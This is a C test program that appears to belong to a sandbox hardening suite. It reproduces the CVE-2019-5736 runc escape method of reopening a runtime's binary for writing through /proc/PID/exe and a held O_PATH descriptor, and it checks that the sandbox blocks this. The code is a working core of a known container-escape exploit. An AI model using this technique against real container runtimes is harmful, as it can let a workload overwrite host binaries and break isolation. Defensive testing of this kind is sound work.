/*
 * The CVE-2019-5736 class: overwrite the runtime's own binary through /proc/PID/exe. In runc the
 * container's process opened /proc/self/exe while runc itself was exec'ing into the container, kept
 * an O_PATH descriptor, and reopened it for writing through /proc/self/fd/N once runc had exited (the
 * write is refused with ETXTBSY only while the binary runs). Here the runtime's binary inside the
 * sandbox is the init, pid 1 (the sandbox-helper, never exec'd into the sandbox).
 *
 * Must fail inside: /proc/1/exe needs ptrace access to the init (PTRACE_MODE_READ), which is refused
 * because the init is not dumpable and the workload holds no CAP_SYS_PTRACE; the helper binary is
 * owned by the host's root, which is not mapped into the sandbox; and the workload's own binary is on
 * a read-only mount. The test also checks the helper binary's SHA-256 afterwards. Nothing is ever
 * written: opening for writing is the proof.
 *
 * Usage: fs_proc_exe TARGET...   TARGET: a pid, "self", or "spawn:PATH" (start PATH, hold its exe,
 * let it exit, then reopen; used outside, on a scratch copy)
 */
#include "hostile.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

static void reopen_for_write(const char *target, const char *exe, int path_fd)
{
    char step[128], fdpath[64];
    snprintf(step, sizeof step, "reopen-write:%s", target);
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", path_fd);
    for (int i = 0; i < 300; i++) {
        int w = open(fdpath, O_WRONLY);
        if (w >= 0) {
            worked(step, "the binary behind %s is open for writing", exe);
            close(w);
            return;
        }
        if (errno != ETXTBSY) {
            blocked(step, errno);
            return;
        }
        struct timespec ts = { 0, 10 * 1000 * 1000 };
        nanosleep(&ts, NULL);
    }
    blocked(step, ETXTBSY);
}

static void attack(const char *target)
{
    pid_t spawned = 0;
    char exe[256], step[128];
    const char *name = target;
    if (strncmp(target, "spawn:", 6) == 0) {
        spawned = fork();
        if (spawned == 0) {
            execl(target + 6, target + 6, "30", (char *)NULL);
            _exit(127);
        }
        struct timespec ts = { 0, 100 * 1000 * 1000 };
        nanosleep(&ts, NULL);
        static char pidtext[32];
        snprintf(pidtext, sizeof pidtext, "%d", spawned);
        name = pidtext;
    }
    snprintf(exe, sizeof exe, "/proc/%s/exe", name);

    snprintf(step, sizeof step, "open-write-direct:%s", target);
    int w = open(exe, O_WRONLY);
    if (w >= 0) {
        worked(step, "%s is open for writing", exe);
        close(w);
    } else {
        blocked(step, errno);
    }

    snprintf(step, sizeof step, "open-path:%s", target);
    int fd = open(exe, O_PATH);
    if (fd < 0) {
        blocked(step, errno);
    } else {
        note(step, "holding %s", exe);
    }
    if (spawned > 0) {
        kill(spawned, SIGKILL);
        waitpid(spawned, NULL, 0);
    }
    if (fd >= 0) {
        reopen_for_write(target, exe, fd);
        close(fd);
    }
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        broken("usage", EINVAL);
    }
    for (int i = 1; i < argc; i++) {
        attack(argv[i]);
    }
    return verdict();
}
